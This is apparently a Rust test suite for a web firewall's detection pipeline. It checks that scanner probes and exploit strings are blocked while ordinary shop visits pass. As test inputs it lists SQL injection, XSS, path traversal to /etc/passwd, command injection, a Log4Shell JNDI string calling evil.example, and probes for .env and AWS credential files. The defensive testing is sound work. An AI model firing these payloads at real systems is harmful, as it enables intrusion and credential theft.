// SPDX-License-Identifier: Apache-2.0
//! What models do in the pipeline, on the first day and with the defaults.

use std::net::IpAddr;
use std::sync::Arc;

use proptest::prelude::*;
use sunbeam_ensemble::{DdosModel, Detector, ScannerModel, builtin};
use sunbeam_features::Finished;
use sunbeam_pipeline::{Challenger, Decision, Judged, Models, Scratch, Worse};
use sunbeam_traffic::{Layer, RequestFacts};

use crate::world::{Visit, World};

const BROWSER: RequestFacts<'static> = RequestFacts {
    client: IpAddr::V4(std::net::Ipv4Addr::new(198, 51, 100, 7)),
    host: "shop.example",
    user_agent: "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    accept: b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    accept_language: b"de,en;q=0.5",
    ..RequestFacts::EMPTY
};

const COOKIES: &[&[u8]] = &[b"theme=dark"];

/// Split at the `?`.
fn target<'a>(target: &'a str, facts: RequestFacts<'a>) -> RequestFacts<'a> {
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    RequestFacts { path, query, ..facts }
}

const PROBES: [&str; 16] = [
    "/.env",
    "/api/.env.production",
    "/.git/config",
    "/.aws/credentials",
    "/wp-config.php.bak",
    "/..%2f..%2f..%2fetc/passwd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/static/../../../../etc/passwd",
    "/?q=1%27%20union%20select%20username,password%20from%20users--%20",
    "/item?id=1%27%20or%20%271%27=%271",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/x?y=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/view?file=../../../../etc/passwd",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/?x=$%7Bjndi:ldap://evil.example/a%7D",
    "/page?name=%7B%7B7*7%7D%7D&id=1%20and%20sleep(5)",
];

const VISITS: [&str; 18] = [
    "/",
    "/index.html",
    "/products/blue-chair-42?color=navy&size=m",
    "/search?q=rock+%27n%27+roll",
    "/search?q=select+your+seats",
    "/search?q=O%27Brien+%26+sons",
    "/search?q=drop+leaf+table+12%22+x+24%22",
    "/login?next=%2Faccount%2Forders%3Fpage%3D2",
    "/assets/app.3f2a9c.js",
    "/favicon.ico",
    "/.well-known/acme-challenge/abc",
    "/blog/2026/11/how-to-write-sql-queries",
    "/api/items?filter=%7B%22price%22%3A%7B%22gte%22%3A10%7D%7D",
    "/share?url=https%3A%2F%2Fexample.org%2Fa%3Fb%3Dc%26d%3De",
    "/docs/union-and-intersection",
    "/images/../images/logo.png",
    "/caf%C3%A9/men%C3%BC?tag=cr%C3%A8me+br%C3%BBl%C3%A9e",
    "/callback?code=4%2F0AX4XfWh&state=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2ln",
];

#[test]
fn probes_and_exploits_are_403_on_the_first_day_whatever_headers_come_with_them() {
    for probe in PROBES {
        for facts in [
            RequestFacts { user_agent: "curl/8.5.0", accept: b"*/*", accept_language: b"", ..BROWSER },
            BROWSER,
            RequestFacts { cookies: COOKIES, referer: b"https://shop.example/", ..BROWSER },
        ] {
            let judged = World::new().judge(&target(probe, facts));
            assert_eq!(
                (judged.decision, judged.layer, judged.status),
                (Decision::Blocked, Some(Layer::Scanner), 403),
                "{probe} with {facts:?}: {:?}",
                judged.scores
            );
        }
    }
}

#[test]
fn a_browser_s_visit_is_never_blocked() {
    for visit in VISITS {
        for cookies in [&[][..], COOKIES] {
            for referer in [&b""[..], b"https://shop.example/"] {
                let facts = target(visit, RequestFacts { cookies, referer, ..BROWSER });
                let judged = World::new().judge(&facts);
                assert_eq!(
                    judged.decision,
                    Decision::Passed,
                    "{visit}: {} {:?}",
                    judged.reason,
                    judged.scores
                );
            }
        }
    }
}

#[test]
fn a_body_at_hand_is_read_like_a_query() {
    for (content_type, body, is_blocked) in [
        ("application/x-www-form-urlencoded", "a=1&b=%27%20or%201%3D1--%20", true),
        ("application/json", r#"{"a":{"b":["' union select null,version()-- "]}}"#, true),
        ("application/json", r#"{"a":{"b":["a fine day"]}}"#, false),
        ("text/plain", "<script>alert(1)</script>", true),
        ("application/x-www-form-urlencoded", "name=O%27Brien&text=see+you+at+5", false),
    ] {
        let facts = RequestFacts {
            method: "POST",
            path: "/form",
            content_type: content_type.as_bytes(),
            content_length: body.len() as u64,
            body: body.as_bytes(),
            ..BROWSER
        };
        let judged = World::new().judge(&facts);
        assert_eq!(judged.decision == Decision::Blocked, is_blocked, "{body}: {:?}", judged.scores);
    }
}

#[test]
fn more_parameters_than_are_looked_at_are_doubtful() {
    let query = "a=%20&".repeat(2000);
    let judged = World::new().judge(&RequestFacts { query: &query, ..BROWSER });
    assert_eq!((judged.decision, judged.reason), (Decision::Observed, "too_many_parameters"));
}

/// Asks, is answered, and waits half a second.
fn asks(world: &mut World, path: &str, status: u16, facts: RequestFacts<'_>) -> Decision {
    let judged = world.judge(&RequestFacts { path, ..facts });
    world.finish(&judged, &finished(&facts, status));
    world.now_micros += 500_000;
    judged.decision
}

#[test]
fn a_scanner_is_blocked_within_twenty_requests_and_who_looks_for_what_is_gone_is_not() {
    let mut world = World::new();
    let tool = RequestFacts {
        user_agent: "Mozilla/5.0 (compatible; x)",
        accept: b"*/*",
        accept_language: b"",
        ..BROWSER
    };
    let words =
        ["backup.zip", "phpinfo.php", "old", "manager/html", "test", "xmlrpc.php", "admin", "server-status"];
    let blocked = (0..20).position(|number| {
        let path = format!("/{}{number}/{}", "a".repeat(number % 3), words[number % words.len()]);
        asks(&mut world, &path, 404, tool) == Decision::Blocked
    });
    assert!(blocked.is_some(), "a list of words");

    let visitor = RequestFacts { cookies: COOKIES, referer: b"https://shop.example/", ..BROWSER };
    for (name, missing_of, requests) in
        [("old bookmarks", 5, 60), ("a gallery whose pictures are gone", 1, 45)]
    {
        let mut world = World::new();
        for number in 0..requests {
            let status = if number % missing_of == missing_of - 1 { 404 } else { 200 };
            let path = format!("/gallery/image{number}.jpg");
            assert_ne!(asks(&mut world, &path, status, visitor), Decision::Blocked, "{name}: {number}");
        }
    }
}

#[test]
fn words_around_an_attack_hide_nothing() {
    let words =
        "the quick brown fox jumps over the lazy dog and goes home to read a good book about old gardens ";
    for attack in [
        "x' OR 1=1-- -",
        "1' UNION SELECT username,password FROM users-- -",
        "<script>alert(document.cookie)</script>",
        "../../../../etc/passwd",
        "; cat /etc/passwd",
        "${jndi:ldap://evil.example/a}",
    ] {
        for times in [0, 1, 3, 10] {
            let padding = words.repeat(times);
            for text in [
                format!("{padding}{attack}"),
                format!("{attack} {padding}"),
                format!("{padding}{attack} {padding}"),
            ] {
                let query = format!("q={}", escaped(&text));
                let judged = World::new().judge(&RequestFacts { query: &query, ..BROWSER });
                assert_ne!(judged.decision, Decision::Passed, "{times} times: {attack}: {:?}", judged.scores);
            }
        }
    }
}

#[test]
fn innocent_parameters_in_front_hide_nothing_behind_the_bound() {
    let many: String = (0..1500).map(|number| format!("a{number}={number}&")).collect();
    let query = format!("{many}id=1%27%20union%20select%20password%20from%20users--%20");
    let judged = World::new().judge(&RequestFacts { query: &query, ..BROWSER });
    assert_eq!((judged.decision, judged.reason), (Decision::Blocked, "payload"));
}

#[test]
fn by_which_name_or_address_a_client_asks_says_nothing() {
    for probe in PROBES {
        for host in ["shop.example", "127.0.0.1:8080", "localhost", "[2001:db8::1]", ""] {
            let judged = World::new().judge(&target(probe, RequestFacts { host, ..BROWSER }));
            assert_eq!(judged.decision, Decision::Blocked, "{probe} at `{host}`: {:?}", judged.scores);
        }
    }
}

fn finished<'a>(facts: &RequestFacts<'a>, status: u16) -> Finished<'a> {
    Finished {
        method: facts.method,
        has_cookies: !facts.cookies.is_empty(),
        has_referer: !facts.referer.is_empty(),
        has_language: !facts.accept_language.is_empty(),
        status,
        is_ours: false,
        is_cheap: false,
        duration_ms: 12,
        content_length: 0,
    }
}

/// One that stops everything, and one that stops nothing.
fn extremes() -> [ScannerModel; 2] {
    let (mut all, mut none) = (builtin::SCANNER.clone(), builtin::SCANNER.clone());
    (all.payload.doubtful, all.payload.certain) = (i32::MIN / 2, i32::MIN / 2);
    (none.payload.doubtful, none.payload.certain) = (i32::MAX, i32::MAX);
    (none.cascade.tree.allow, none.cascade.tree.block) = (i16::MAX - 1, i16::MAX);
    [all, none]
}

#[test]
fn a_challenger_never_changes_a_decision_and_is_compared_with_each() {
    let told = |judged: &Judged| (judged.decision, judged.layer, judged.reason, judged.status, judged.scores);
    for (challenger, stops) in extremes().into_iter().zip([true, false]) {
        let challenger = Arc::new(Challenger::new(Arc::new(challenger)));
        let models = Models { scanner_challenger: Some(Arc::clone(&challenger)), ..Models::default() };
        let (mut alone, mut beside) = (World::new(), World::new().judged_by(models));
        for path in PROBES.iter().chain(&VISITS) {
            let facts = target(path, BROWSER);
            assert_eq!(told(&beside.judge(&facts)), told(&alone.judge(&facts)), "{path}");
            beside.pipeline.opinions(&facts, beside.now(), &mut Scratch::default());
        }
        let agreement = challenger.agreement();
        let (probes, visits) = (PROBES.len() as u64, VISITS.len() as u64);
        assert_eq!(agreement.compared(), probes + visits, "a question is no request: {agreement:?}");
        if stops {
            assert_eq!((agreement.both_stop, agreement.only_new), (probes, visits));
            assert_eq!(
                agreement.worse(false),
                Some(Worse::StopsMany),
                "nobody of those is known to the site"
            );
        } else {
            assert_eq!((agreement.only_old, agreement.both_pass), (probes, visits));
            assert_eq!(agreement.worse(false), Some(Worse::LetsGo));
        }
    }
}

/// One that stops every window, and one that stops none.
fn extremes_of_windows() -> [DdosModel; 2] {
    let (mut all, mut none) = (builtin::DDOS.clone(), builtin::DDOS.clone());
    (all.cascade.tree.leaves, all.cascade.tree.allow, all.cascade.tree.block) = ([1_000; 64], 0, 1);
    (none.cascade.tree.allow, none.cascade.tree.block) = (i16::MAX - 1, i16::MAX);
    [all, none]
}

#[test]
fn a_challenger_of_windows_sees_what_the_model_sees_and_stops_nobody() {
    let [all, none] = extremes_of_windows().map(Arc::new);
    for (old, new, is_stopped) in [(&all, &none, true), (&none, &all, false)] {
        let challenger = Arc::new(Challenger::new(Arc::clone(new)));
        let alone = Models { ddos: Arc::clone(old), ..Models::default() };
        let beside = Models { ddos_challenger: Some(Arc::clone(&challenger)), ..alone.clone() };
        let (mut alone, mut beside) = (World::new().judged_by(alone), World::new().judged_by(beside));
        for number in 0..20 {
            let path = format!("/page/{number}");
            let facts = RequestFacts { path: &path, ..BROWSER };
            let [one, other] = [&mut alone, &mut beside].map(|world| {
                let judged = world.judge(&facts);
                world.finish(&judged, &finished(&facts, 200));
                world.now_micros += 3_000_000;
                (judged.decision, judged.reason, judged.scores.ddos)
            });
            assert_eq!(one, other);
        }
        let agreement = challenger.agreement();
        assert_eq!(
            (agreement.only_old > 0, agreement.only_new > 0),
            (is_stopped, !is_stopped),
            "{agreement:?}"
        );
        assert_eq!((agreement.both_pass, agreement.both_stop, agreement.known_only_old), (0, 0, 0));
    }
}

#[test]
fn one_request_in_sixteen_is_counted_by_its_features_and_all_of_those_whom_the_site_knows() {
    let [all, _] = extremes();
    let challenger = Arc::new(Challenger::new(Arc::new(all)));
    let models = Models { scanner_challenger: Some(Arc::clone(&challenger)), ..Models::default() };
    let (scanner, ddos) = (Arc::clone(&models.scanner_sight), Arc::clone(&models.ddos_sight));
    let mut world = World::new().judged_by(models);
    for number in 0..160_u32 {
        let path = format!("/page/{}", number % 7);
        let opens_session = (number == 0).then_some("alice");
        let visit = Visit {
            path: &path,
            status: 200,
            session: (number > 0).then_some("alice"),
            opens_session,
            ..Visit::default()
        };
        world.visit(BROWSER.client, &visit);
        world.now_micros += 3_000_000;
    }
    let (seen, benign) = (scanner.take(), scanner.benign());
    assert_eq!(seen.rows(), 10);
    assert!(
        seen.indices(Detector::Scanner, &builtin::SCANNER.reference)
            .iter()
            .all(|(_, index)| index.is_finite())
    );
    assert!((100..160).contains(&benign.requests()), "{}", benign.requests());
    let agreement = challenger.agreement();
    assert_eq!((agreement.known_only_new, agreement.only_new), (benign.requests(), 160));
    assert_eq!(agreement.worse(false), Some(Worse::StopsTheKnown));
    assert_eq!(ddos.benign().requests(), 0, "whom the site knows is not judged by his window");
}

/// The worst verdict on texts alone, as the numbers that decide it.
fn payload(world: &mut World, query: &str) -> i32 {
    world.judge(&RequestFacts { query, ..BROWSER }).scores.payload.unwrap()
}

fn attacks() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "1%27%20or%201=1--%20",
        "%3Csvg%20onload=alert(1)%3E",
        "../../../etc/passwd",
        ";cat%20/etc/passwd",
        "hello%20world",
        "O%27Brien",
        "{%22a%22:1}",
    ])
}

fn names() -> impl Strategy<Value = String> {
    "[a-z]{1,8}"
}

proptest! {
    #[test]
    fn benign_parameters_added_never_lower_a_score(
        attack in attacks(), name in names(), others in proptest::collection::vec((names(), "[a-z0-9 ]{0,20}"), 0..6),
    ) {
        let mut world = World::new();
        let alone = payload(&mut world, &format!("{name}={attack}"));
        let more: String = others.iter().map(|(name, value)| format!("{name}={}&", value.replace(' ', "+"))).collect();
        let query = format!("{more}{name}={attack}&z=1");
        prop_assert!(payload(&mut world, &query) >= alone);
    }

    #[test]
    fn names_carriers_headers_and_encodings_move_no_verdict(
        attack in attacks(), name in names(), other in names(), doubled in any::<bool>(),
    ) {
        let mut world = World::new();
        let query = format!("{name}={attack}");
        let want = payload(&mut world, &query);
        prop_assert_eq!(payload(&mut world, &format!("{other}={attack}")), want);
        let body = RequestFacts { method: "POST", body: query.as_bytes(), content_type: b"application/x-www-form-urlencoded", ..BROWSER };
        prop_assert_eq!(world.judge(&body).scores.payload, Some(want));
        let bare = RequestFacts { query: &query, user_agent: "curl/8", accept: b"", accept_language: b"", ..RequestFacts::EMPTY };
        prop_assert_eq!(world.judge(&bare).scores.payload, Some(want));
        let encoded: String = if doubled { attack.replace('%', "%25") } else { escaped(attack) };
        prop_assert_eq!(payload(&mut world, &format!("{name}={encoded}")), want);
    }

    #[test]
    fn a_cookie_or_a_referer_never_changes_a_decision(
        path in prop::sample::select(PROBES.iter().chain(&VISITS).copied().collect::<Vec<_>>()), is_tool in any::<bool>(),
    ) {
        let facts = if is_tool { RequestFacts { user_agent: "curl/8", accept: b"*/*", accept_language: b"", ..BROWSER } } else { BROWSER };
        let facts = target(path, facts);
        let decide = |facts: RequestFacts<'_>| {
            let judged = World::new().judge(&facts);
            (judged.decision, judged.layer)
        };
        let want = decide(facts);
        for cookies in [&[][..], COOKIES] {
            for referer in [&b""[..], b"https://shop.example/"] {
                prop_assert_eq!(decide(RequestFacts { cookies, referer, ..facts }), want);
            }
        }
    }
}

/// Every byte that is no escape yet in one.
fn escaped(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text.bytes();
    while let Some(byte) = rest.next() {
        if byte == b'%' {
            out.push('%');
            out.extend(rest.by_ref().take(2).map(char::from));
        } else {
            out.push_str(&format!("%{byte:02x}"));
        }
    }
    out
}
